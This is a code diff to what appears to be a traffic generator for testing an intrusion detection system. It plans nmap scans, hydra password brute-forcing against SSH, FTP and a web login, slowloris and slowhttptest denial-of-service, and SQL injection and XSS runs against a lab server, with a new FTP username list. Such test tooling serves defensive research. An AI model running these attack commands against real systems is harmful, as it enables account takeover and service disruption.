@@ -5,6 +5,7 @@ Budgets grow with ``intensity`` (1.0 for one minute of traffic) and are capped, 
 
 from __future__ import annotations
 
+import pwd
 import sys
 from dataclasses import dataclass
 from pathlib import Path
@@ -21,6 +22,18 @@ PASSWORDS = ("123456", "password", "12345678", "qwerty", "123456789", "12345", "
              "jennifer", "zxcvbnm", "asdfgh", "hunter", "buster", "soccer", "harley", "batman", "andrew", "tigger",
              "sunshine", "iloveyou", "2000", "charlie", "robert", "thomas", "hockey", "ranger", "daniel")
 USERS = ("root", "admin", "alice", "user", "test")
+FTP_USERS = ("webmaster", "shopadmin", "alice", "backup", "ftpuser", "sales", "office", "support")
+
+
+def _no_account(names: tuple[str, ...]) -> list[str]:
+    """The names that are no account of this host (the FTP server refuses real accounts before any password)."""
+    out = []
+    for name in names:
+        try:
+            pwd.getpwnam(name)
+        except KeyError:
+            out.append(name)
+    return out or ["bastion-ids-nobody"]
 
 
 @dataclass(frozen=True)
@@ -44,9 +57,10 @@ def plans(intensity: float, seconds: float, seed: int, tmp: Path) -> dict[str, l
     nmap = ["nmap", "-n", "-Pn", "-e", "eth0", "--max-retries", "1", "--host-timeout", f"{int(t / 2)}s"]
     words = _words(tmp / "passwords.txt", int(min(25 * k, 100)), rng)
     web_words = _words(tmp / "web_passwords.txt", int(min(25 * k, 100)), rng, extra=(PASSWORD,))
-    users = tmp / "users.txt"
+    users, ftp_users = tmp / "users.txt", tmp / "ftp_users.txt"
     users.write_text("\n".join(USERS[: 2 + int(k)]) + "\n")
-    hydra = ["hydra", "-I", "-t", "4", "-w", "5", "-W", "1"]
+    ftp_users.write_text("\n".join(_no_account(FTP_USERS)[: 2 + int(k)]) + "\n")
+    hydra = ["hydra", "-I", "-w", "5", "-W", "1", "-t"]  # then the number of parallel tasks
     py = [sys.executable, str(Path(__file__).parent / "webattack.py")]
     flood = int(min(600 * k, 3000))
     slow = int(min(60 * k, 250))
@@ -60,9 +74,9 @@ def plans(intensity: float, seconds: float, seed: int, tmp: Path) -> dict[str, l
         "slowh": [Step(["slowhttptest", "-H", "-c", str(slow), "-r", "30", "-i", "5", "-l", str(int(t / 2)),
                         "-x", "24", "-p", "3", "-u", f"http://{SERVER_IP}/"], t / 2 + 10)],
         "slowl": [Step([*py, "slowloris", SERVER_IP, str(slow), str(seed + 1), str(t / 2)], t / 2 + 10)],
-        "sshp": [Step([*hydra, "-L", str(users), "-P", words, f"ssh://{SERVER_IP}"], t / 2)],
-        "ftpp": [Step([*hydra, "-L", str(users), "-P", words, f"ftp://{SERVER_IP}"], t / 2)],
-        "webbf": [Step([*hydra, "-l", "alice", "-P", web_words, SERVER_IP, "http-post-form",
+        "sshp": [Step([*hydra, "8", "-L", str(users), "-P", words, f"ssh://{SERVER_IP}"], t / 2)],
+        "ftpp": [Step([*hydra, "8", "-L", str(ftp_users), "-P", words, f"ftp://{SERVER_IP}"], t / 2)],
+        "webbf": [Step([*hydra, "4", "-l", "alice", "-P", web_words, SERVER_IP, "http-post-form",
                         "/login:user=^USER^&pass=^PASS^:F=Invalid"], t / 2)],
         "sqli": [Step([*py, "sqli", SERVER_IP, str(int(min(80 * k, 400))), str(seed + 2), str(t / 2)], t / 2 + 10)],
         "xss": [Step([*py, "xss", SERVER_IP, str(int(min(80 * k, 400))), str(seed + 3), str(t / 2)], t / 2 + 10)],
